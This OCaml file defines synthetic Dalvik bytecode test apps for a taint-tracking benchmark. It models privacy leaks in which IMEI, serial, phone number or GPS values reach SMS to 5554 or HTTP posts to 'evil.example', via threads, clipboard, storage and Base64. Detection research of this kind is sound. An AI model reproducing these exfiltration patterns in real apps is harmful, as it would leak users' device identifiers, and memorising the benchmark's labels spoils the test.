@@ -1,0 +1,632 @@
+module B = Pift_dalvik.Bytecode
+open Dsl
+
+let app = App.make ~subset48:false
+
+(* Producer/consumer handoff through a shared static buffer — the
+   cross-thread pattern (threads serialise through shared memory; our
+   single-CPU machine runs them back-to-back, which is the memory-visible
+   schedule). *)
+let thread_handoff1 =
+  app ~name:"ThreadHandoff1" ~category:"Threading" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Producer.run" ~registers:6 ~ins:0
+            (imei 0
+            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
+            @ [ B.New_array (2, 1, "char[]") ]
+            @ [ call "String.getChars" [ 0; 2 ] ]
+            @ [ B.Sput_object (2, "Shared.buffer"); B.Return_void ]);
+          meth ~name:"Consumer.run" ~registers:5 ~ins:0
+            [
+              B.Sget_object (0, "Shared.buffer");
+              call "String.fromChars" [ 0 ];
+              B.Move_result_object 1;
+              lit 2 "5554";
+              send_sms ~dest:2 ~msg:1;
+              B.Return_void;
+            ];
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Producer.run"; call0 "Consumer.run"; B.Return_void ];
+        ])
+
+(* Same handoff shape, but the consumer reads a different buffer. *)
+let thread_handoff2 =
+  app ~name:"ThreadHandoff2" ~category:"Threading" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"Producer.run" ~registers:6 ~ins:0
+            (imei 0
+            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
+            @ [ B.New_array (2, 1, "char[]") ]
+            @ [ call "String.getChars" [ 0; 2 ] ]
+            @ [ B.Sput_object (2, "Shared.secret"); B.Return_void ]);
+          meth ~name:"Consumer.run" ~registers:6 ~ins:0
+            (body
+               ([
+                  I (lit 0 "public data");
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                ]
+               @ window_gap 8
+               @ [
+                   I (call "String.getChars" [ 0; 2 ]);
+                   I (B.Sput_object (2, "Shared.public"));
+                   I (B.Sget_object (3, "Shared.public"));
+                   I (call "String.fromChars" [ 3 ]);
+                   I (B.Move_result_object 4);
+                   I (lit 5 "5554");
+                   I (send_sms ~dest:5 ~msg:4);
+                   I B.Return_void;
+                 ]));
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Producer.run"; call0 "Consumer.run"; B.Return_void ];
+        ])
+
+(* Clipboard-style reference handoff between components. *)
+let clipboard1 =
+  app ~name:"Clipboard1" ~category:"InterComponentCommunication"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Copier.copy" ~registers:2 ~ins:0
+            (serial 0
+            @ [ B.Sput_object (0, "Clipboard.content"); B.Return_void ]);
+          meth ~name:"Paster.paste" ~registers:3 ~ins:0
+            [
+              B.Sget_object (0, "Clipboard.content");
+              lit 1 "http://evil.example";
+              http ~url:1 ~body:0;
+              B.Return_void;
+            ];
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Copier.copy"; call0 "Paster.paste"; B.Return_void ];
+        ])
+
+(* Persistence round trip: the value is written into a "preferences"
+   char buffer (real copy), read back later (real copy), and sent.  Taint
+   must survive the storage round trip. *)
+let shared_prefs1 =
+  app ~name:"SharedPrefs1" ~category:"Persistence" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  Is (phone_number 0);
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                  I (call "String.getChars" [ 0; 2 ]);
+                  I (B.Sput_object (2, "Prefs.number"));
+                ]
+               (* "later": a separate phase of the app *)
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
+               @ [
+                   I (B.Sget_object (3, "Prefs.number"));
+                   I (call "String.fromChars" [ 3 ]);
+                   I (B.Move_result_object 6);
+                   I (lit 7 "http://sync.example");
+                   I (http ~url:7 ~body:6);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* The stored preference is reset to a default before being read back. *)
+let shared_prefs2 =
+  app ~name:"SharedPrefs2" ~category:"Persistence" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (body
+               ([
+                  Is (phone_number 0);
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                  I (call "String.getChars" [ 0; 2 ]);
+                  I (B.Sput_object (2, "Prefs.number"));
+                ]
+               @ window_gap 8
+               @ [
+                   (* factory reset: overwrite with a default of the same
+                      length *)
+                   I (lit 3 "00000000000");
+                   I (call "String.getChars" [ 3; 2 ]);
+                 ]
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
+               @ [
+                   I (B.Sget_object (5, "Prefs.number"));
+                   I (call "String.fromChars" [ 5 ]);
+                   I (B.Move_result_object 6);
+                   I (lit 7 "http://sync.example");
+                   I (http ~url:7 ~body:6);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Virtual dispatch: the receiver's class decides which implementation
+   runs; the dispatched-to method leaks. *)
+let virtual_dispatch1 =
+  app ~name:"VirtualDispatch1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        ~classes:[ ("Leaky", [ "pad" ]); ("Safe", [ "pad" ]) ]
+        [
+          meth ~name:"Leaky.report" ~registers:4 ~ins:1
+            (imei 0 @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
+          meth ~name:"Safe.report" ~registers:4 ~ins:1
+            [ lit 0 "ok"; lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ];
+          meth ~name:"main" ~registers:4 ~ins:0
+            (body
+               [
+                 I (B.New_instance (0, "Leaky"));
+                 I (B.Instance_of (1, 0, "Leaky"));
+                 Ifz_l (B.Eq, 1, "safe");
+                 I (B.Invoke (B.Virtual, "Leaky.report", [ 0 ]));
+                 I B.Return_void;
+                 L "safe";
+                 I (B.Invoke (B.Virtual, "Safe.report", [ 0 ]));
+                 I B.Return_void;
+               ]);
+        ])
+
+(* Ten-deep call chain: taint rides the per-call argument copies. *)
+let deep_call1 =
+  let depth = 10 in
+  app ~name:"DeepCall1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      let level i =
+        let next =
+          if i = depth then
+            [
+              lit 1 "5554";
+              send_sms ~dest:1 ~msg:3 (* arg register: 4 - 1 = v3 *);
+              B.Return_void;
+            ]
+          else
+            [
+              B.Invoke (B.Static, Printf.sprintf "f%d" (i + 1), [ 3 ]);
+              B.Return_void;
+            ]
+        in
+        meth ~name:(Printf.sprintf "f%d" i) ~registers:4 ~ins:1 next
+      in
+      prog
+        (meth ~name:"main" ~registers:3 ~ins:0
+           (imei 0
+           @ [ B.Invoke (B.Static, "f1", [ 0 ]); B.Return_void ])
+        :: List.init depth (fun i -> level (i + 1))))
+
+(* Recursive per-character rebuild of the string. *)
+let recursion1 =
+  app ~name:"Recursion1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          (* rebuild(s, sb, i): if i < len then append s[i]; recurse *)
+          meth ~name:"rebuild" ~registers:10 ~ins:3
+            (body
+               [
+                 (* args: v7 = s, v8 = sb, v9 = i *)
+                 I (call "String.length" [ 7 ]);
+                 I (B.Move_result 0);
+                 If_l (B.Ge, 9, 0, "done");
+                 I (call "String.charAt" [ 7; 9 ]);
+                 I (B.Move_result 1);
+                 I (call "StringBuilder.appendChar" [ 8; 1 ]);
+                 I (B.Move_result_object 2);
+                 I (B.Binop_lit8 (B.Add, 3, 9, 1));
+                 I (B.Invoke (B.Static, "rebuild", [ 7; 8; 3 ]));
+                 L "done";
+                 I B.Return_void;
+               ]);
+          meth ~name:"main" ~registers:8 ~ins:0
+            (imei 0
+            @ sb_new ~dst:1
+            @ [ B.Const4 (2, 0) ]
+            @ [ B.Invoke (B.Static, "rebuild", [ 0; 1; 2 ]) ]
+            @ sb_to_string ~dst:3 ~sb:1
+            @ [ lit 4 "http://evil.example"; http ~url:4 ~body:3;
+                B.Return_void ]);
+        ])
+
+(* Only part of the buffer is overwritten; the surviving half leaks.
+   Exercises range splitting in both trackers. *)
+let partial_overwrite1 =
+  app ~name:"PartialOverwrite1" ~category:"GeneralJava" ~leaky:true
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (body
+               ([
+                  Is (imei 0);
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                  I (call "String.getChars" [ 0; 2 ]);
+                ]
+               @ window_gap 8
+               @ [
+                   (* zero the first 8 chars only *)
+                   I (lit 3 "00000000");
+                   I (call "String.getChars" [ 3; 2 ]);
+                   I (call "String.fromChars" [ 2 ]);
+                   I (B.Move_result_object 4);
+                   I (lit 5 "5554");
+                   I (send_sms ~dest:5 ~msg:4);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Two sources merged into one report: provenance should list both. *)
+let taint_merge1 =
+  app ~name:"TaintMerge1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:7 ~ins:0
+            (imei 0
+            @ phone_number 1
+            @ [ lit 2 "/" ]
+            @ concat ~dst:3 0 2
+            @ concat ~dst:4 3 1
+            @ [ lit 5 "http://evil.example"; http ~url:5 ~body:4;
+                B.Return_void ]);
+        ])
+
+(* Heavy clean compute between source and an unrelated send. *)
+let big_loop1 =
+  app ~name:"BigLoop1" ~category:"GeneralJava" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (body
+               ([ Is (serial 0) ]
+               @ window_gap 8
+               @ [
+                   (* checksum over a clean array *)
+                   I (B.Const16 (1, 64));
+                   I (B.New_array (2, 1, "int[]"));
+                   I (B.Const4 (3, 0));
+                   I (B.Const4 (4, 0));
+                   L "head";
+                   If_l (B.Ge, 3, 1, "done");
+                   I (B.Aget (5, 2, 3));
+                   I (B.Binop_2addr (B.Add, 4, 5));
+                   I (B.Aput (4, 2, 3));
+                   I (B.Binop_lit8 (B.Add, 3, 3, 1));
+                   Goto_l "head";
+                   L "done";
+                 ]
+               @ window_gap 8
+               @ [
+                   Is (int_to_string ~dst:6 4);
+                   I (lit 7 "TAG");
+                   I (log ~tag:7 ~msg:6);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* An alias to the builder is cleared; the original never saw taint. *)
+let alias2 =
+  app ~name:"Alias2" ~category:"Aliasing" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  Is (sb_new ~dst:0);
+                  I (B.Move_object (1, 0));
+                  Is (imei 2);
+                  (* the alias variable is overwritten before any append *)
+                  I (B.Const4 (1, 0));
+                  I (lit 3 "armless");
+                  Is (sb_append ~sb:0 3);
+                ]
+               @ window_gap 8
+               @ [
+                   Is (sb_to_string ~dst:4 ~sb:0);
+                   I (lit 5 "5554");
+                   I (send_sms ~dest:5 ~msg:4);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* GPS through string formatting — the long itoa path in a fresh shape. *)
+let string_formatter1 =
+  app ~name:"StringFormatter1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (latitude 0
+            @ int_to_string ~dst:1 0
+            @ [ lit 2 "lat=" ]
+            @ concat ~dst:3 2 1
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+(* --- Batch 2: callback registration, object graphs, precision ----------- *)
+
+(* The leaking listener fires only if it is still registered (the
+   EdgeMiner-style registration/callback pairing). *)
+let callback_app ~name ~unregister =
+  App.make ~subset48:false ~name ~category:"Callbacks" ~leaky:(not unregister)
+    (fun () ->
+      prog
+        [
+          meth ~name:"Listener.onEvent" ~registers:4 ~ins:0
+            (imei 0 @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
+          meth ~name:"main" ~registers:4 ~ins:0
+            (body
+               ([
+                  (* register: Framework.listener := 1 *)
+                  I (B.Const4 (0, 1));
+                  I (B.Sput (0, "Framework.listener"));
+                ]
+               @ (if unregister then
+                    [ I (B.Const4 (0, 0)); I (B.Sput (0, "Framework.listener")) ]
+                  else [])
+               @ [
+                   (* the framework fires the event *)
+                   I (B.Sget (1, "Framework.listener"));
+                   Ifz_l (B.Eq, 1, "skip");
+                   I (call0 "Listener.onEvent");
+                   L "skip";
+                   I (lit 2 "TAG");
+                   I (lit 3 "done");
+                   I (log ~tag:2 ~msg:3);
+                   I B.Return_void;
+                 ]));
+        ])
+
+let register_callback1 = callback_app ~name:"RegisterCallback1" ~unregister:false
+let unregister_callback1 = callback_app ~name:"UnregisterCallback1" ~unregister:true
+
+(* Character codes re-encoded as decimal numbers: each hop through the
+   itoa helper needs NI >= 10. *)
+let array_to_string1 =
+  App.make ~subset48:false ~name:"ArrayToString1" ~category:"ArraysAndLists"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:12 ~ins:0
+            (body
+               [
+                 Is (imei 0);
+                 I (B.Const4 (1, 0));
+                 I (call "String.charAt" [ 0; 1 ]);
+                 I (B.Move_result 2);
+                 Is (sb_new ~dst:3);
+                 I (call "StringBuilder.appendInt" [ 3; 2 ]);
+                 I (B.Move_result_object 3);
+                 Is (sb_to_string ~dst:4 ~sb:3);
+                 I (lit 5 "5554");
+                 I (send_sms ~dest:5 ~msg:4);
+                 I B.Return_void;
+               ]);
+        ])
+
+(* Chars parked in object fields, one object per char, read back via
+   iget (distance 5). *)
+let object_array1 =
+  App.make ~subset48:false ~name:"ObjectArray1" ~category:"ArraysAndLists"
+    ~leaky:true (fun () ->
+      prog
+        ~classes:[ ("Cell", [ "c" ]) ]
+        [
+          meth ~name:"main" ~registers:14 ~ins:0
+            (body
+               [
+                 Is (imei 0);
+                 I (call "String.length" [ 0 ]);
+                 I (B.Move_result 1);
+                 I (B.New_array (2, 1, "object[]"));
+                 I (B.Const4 (3, 0));
+                 L "fill";
+                 If_l (B.Ge, 3, 1, "filled");
+                 I (call "String.charAt" [ 0; 3 ]);
+                 I (B.Move_result 4);
+                 I (B.New_instance (5, "Cell"));
+                 I (B.Iput (4, 5, "c"));
+                 I (B.Aput_object (5, 2, 3));
+                 I (B.Binop_lit8 (B.Add, 3, 3, 1));
+                 Goto_l "fill";
+                 L "filled";
+                 (* read back into a char array and exfiltrate *)
+                 I (B.New_array (6, 1, "char[]"));
+                 I (B.Const4 (3, 0));
+                 L "drain";
+                 If_l (B.Ge, 3, 1, "drained");
+                 I (B.Aget_object (7, 2, 3));
+                 I (B.Iget (8, 7, "c"));
+                 I (B.Aput_char (8, 6, 3));
+                 I (B.Binop_lit8 (B.Add, 3, 3, 1));
+                 Goto_l "drain";
+                 L "drained";
+                 I (call "String.fromChars" [ 6 ]);
+                 I (B.Move_result_object 9);
+                 I (lit 10 "http://evil.example");
+                 I (http ~url:10 ~body:9);
+                 I B.Return_void;
+               ]);
+        ])
+
+(* Nested helper calls, each returning a freshly derived string. *)
+let static_method_chain1 =
+  App.make ~subset48:false ~name:"StaticMethodChain1" ~category:"GeneralJava"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"wrap" ~registers:5 ~ins:1
+            ([ lit 0 "<" ]
+            @ concat ~dst:1 0 4
+            @ [ lit 2 ">" ]
+            @ concat ~dst:3 1 2
+            @ [ B.Return_object 3 ]);
+          meth ~name:"main" ~registers:5 ~ins:0
+            (serial 0
+            @ [ B.Invoke (B.Static, "wrap", [ 0 ]); B.Move_result_object 1 ]
+            @ [ B.Invoke (B.Static, "wrap", [ 1 ]); B.Move_result_object 2 ]
+            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
+        ])
+
+(* Eight chained concatenations. *)
+let concat_chain1 =
+  App.make ~subset48:false ~name:"ConcatChain1" ~category:"GeneralJava"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (imei 0
+            @ [ lit 1 "x" ]
+            @ List.concat
+                (List.init 8 (fun _ -> concat ~dst:0 0 1))
+            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]);
+        ])
+
+(* References swapped back and forth; the tainted buffer is the one
+   finally sent. *)
+let swap1 =
+  App.make ~subset48:false ~name:"Swap1" ~category:"Aliasing" ~leaky:true
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (imei 0
+            @ [ lit 1 "decoy" ]
+            (* swap v0 and v1 three times: v0 ends up the decoy,
+               v1 the IMEI *)
+            @ [
+                B.Move_object (2, 0); B.Move_object (0, 1);
+                B.Move_object (1, 2);
+              ]
+            @ [
+                B.Move_object (2, 0); B.Move_object (0, 1);
+                B.Move_object (1, 2);
+              ]
+            @ [
+                B.Move_object (2, 0); B.Move_object (0, 1);
+                B.Move_object (1, 2);
+              ]
+            (* after an odd number of swaps the IMEI is in v1 *)
+            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:1; B.Return_void ]);
+        ])
+
+(* The source is only read in a branch that never executes. *)
+let dead_branch_source1 =
+  App.make ~subset48:false ~name:"DeadBranchSource1" ~category:"GeneralJava"
+    ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (body
+               [
+                 I (B.Const4 (0, 0));
+                 Ifz_l (B.Eq, 0, "safe");
+                 Is (imei 1);
+                 I (lit 2 "5554");
+                 I (send_sms ~dest:2 ~msg:1);
+                 I B.Return_void;
+                 L "safe";
+                 I (lit 3 "nothing to see");
+                 I (lit 4 "TAG");
+                 I (log ~tag:4 ~msg:3);
+                 I B.Return_void;
+               ]);
+        ])
+
+(* Only the tainted half of a mixed message is sent. *)
+let half_leak1 =
+  App.make ~subset48:false ~name:"HalfLeak1" ~category:"GeneralJava"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            ([ lit 0 "id=" ]
+            @ imei 1
+            @ concat ~dst:2 0 1
+            (* substring(3, 15): exactly the IMEI characters *)
+            @ [ B.Const4 (3, 3); B.Const16 (4, 15) ]
+            @ [ call "String.substring" [ 2; 3; 4 ]; B.Move_result_object 5 ]
+            @ [ lit 6 "5554"; send_sms ~dest:6 ~msg:5; B.Return_void ]);
+        ])
+
+(* Only the clean prefix of the same mixed message is sent.  Exact
+   byte-granular tracking keeps the prefix clean (full DIFT says benign);
+   PIFT at (13,3) flags it anyway: the window that covers the concat's
+   return taints the result-reference frame slot, the substring call
+   re-loads that slot, and its first copied character lands inside the
+   fresh window.  A documented precision limit of the heuristic — kept
+   here as a known false positive. *)
+let truncated_clean1 =
+  App.make ~subset48:false ~name:"TruncatedClean1" ~category:"GeneralJava"
+    ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  I (lit 0 "id=");
+                  Is (imei 1);
+                  Is (concat ~dst:2 0 1);
+                ]
+               @ window_gap 8
+               @ [
+                   (* substring(0, 3) = "id=" only *)
+                   I (B.Const4 (3, 0));
+                   I (B.Const4 (4, 3));
+                   I (call "String.substring" [ 2; 3; 4 ]);
+                   I (B.Move_result_object 5);
+                   I (lit 6 "5554");
+                   I (send_sms ~dest:6 ~msg:5);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Base64 exfiltration: the encoder reads the alphabet by computed index,
+   so exact data-flow tracking sees only constant loads — an implicit
+   flow, like real obfuscating malware.  PIFT flags it anyway: the
+   encoded-output stores sit 5 and 11 instructions after the input-byte
+   loads, inside the default window. *)
+let base64_exfil1 =
+  App.make ~subset48:false ~name:"Base64Exfil1" ~category:"ImplicitFlows"
+    ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (imei 0
+            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
+            @ [ call "Base64.encode" [ 1 ]; B.Move_result_object 2 ]
+            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
+                B.Return_void ]);
+        ])
+
+let all : App.t list =
+  [
+    thread_handoff1;
+    thread_handoff2;
+    clipboard1;
+    shared_prefs1;
+    shared_prefs2;
+    virtual_dispatch1;
+    deep_call1;
+    recursion1;
+    partial_overwrite1;
+    taint_merge1;
+    big_loop1;
+    alias2;
+    string_formatter1;
+    register_callback1;
+    unregister_callback1;
+    array_to_string1;
+    object_array1;
+    static_method_chain1;
+    concat_chain1;
+    swap1;
+    dead_branch_source1;
+    half_leak1;
+    truncated_clean1;
+    base64_exfil1;
+  ]
+
+let find name =
+  List.find_opt (fun (a : App.t) -> String.equal a.App.name name) all
